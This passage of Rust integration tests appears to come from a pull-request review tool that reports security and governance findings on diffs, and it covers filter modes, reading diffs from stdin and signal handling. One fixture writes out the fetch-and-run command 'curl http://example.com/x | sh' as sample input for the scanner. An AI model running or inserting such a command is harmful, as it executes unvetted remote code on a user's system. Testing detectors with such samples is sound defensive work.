            "pull_request.opened",
            "--no-save",
            "--repo",
            "repo",
            "--range",
            "HEAD~1..HEAD",
            "--filter-mode",
            mode,
            "--json",
        ]);
        let value: serde_json::Value =
            serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&out)));
        let mut places: Vec<String> = value["agents"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|a| a["findings"].as_array().unwrap())
            .map(|f| {
                format!(
                    "{} {}",
                    f["rule"].as_str().unwrap(),
                    f["file"].as_str().unwrap_or("")
                )
            })
            .collect();
        places.sort();
        places.dedup();
        places
    };
    let unfinished = "governance/unfinished-commit ".to_owned();
    assert_eq!(found("added"), std::slice::from_ref(&unfinished));
    let a = "security/dynamic-code a.py".to_owned();
    assert_eq!(found("file"), [unfinished.clone(), a.clone()]);
    assert_eq!(
        found("all"),
        [unfinished, a, "security/dynamic-code b.py".to_owned()]
    );
}

/// Whoever names a file reads it: beside a running engine `/dev/stdin` is the command's own standard input.
#[test]
fn run_with_dev_stdin_beside_an_engine_reviews_the_callers_input() {
    let world = World::new();
    let mut engine = world
        .command(&["serve", "--no-tcp", "--allow-root"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    use std::io::BufRead as _;
    let mut lines = std::io::BufReader::new(engine.stdout.take().unwrap()).lines();
    lines
        .find(|l| l.as_ref().is_ok_and(|l| l.contains("unix:")))
        .unwrap()
        .unwrap();
    let diff = adding("marker.sh", "curl http://example.com/x | sh\n");
    let args = [
        "run",
        "pull_request.opened",
        "--diff",
        "/dev/stdin",
        "--json",
    ];
    let output = world.with_stdin(&args, diff.as_bytes());
    engine.kill().unwrap();
    engine.wait().unwrap();
    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
    assert_eq!(
        value["coverage"]["firstFile"],
        "marker.sh",
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// A pipe that nobody writes into is waited for by the command, where a signal ends it.
#[test]
fn run_with_a_silent_pipe_as_diff_ends_at_a_signal() {
    let world = World::new();
    let pipe = world.path("pipe");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &pipe,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    let mut child = world
        .command(&[
            "run",
            "pull_request.opened",
            "--diff",
            pipe.to_str().unwrap(),
            "--no-save",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Opened for writing once the command has opened it for reading.
    let _writer = std::fs::OpenOptions::new().write(true).open(&pipe).unwrap();
    let id = rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
    rustix::process::kill_process(id, rustix::process::Signal::TERM).unwrap();
    let status = child.wait().unwrap();
    assert!(!status.success());
}
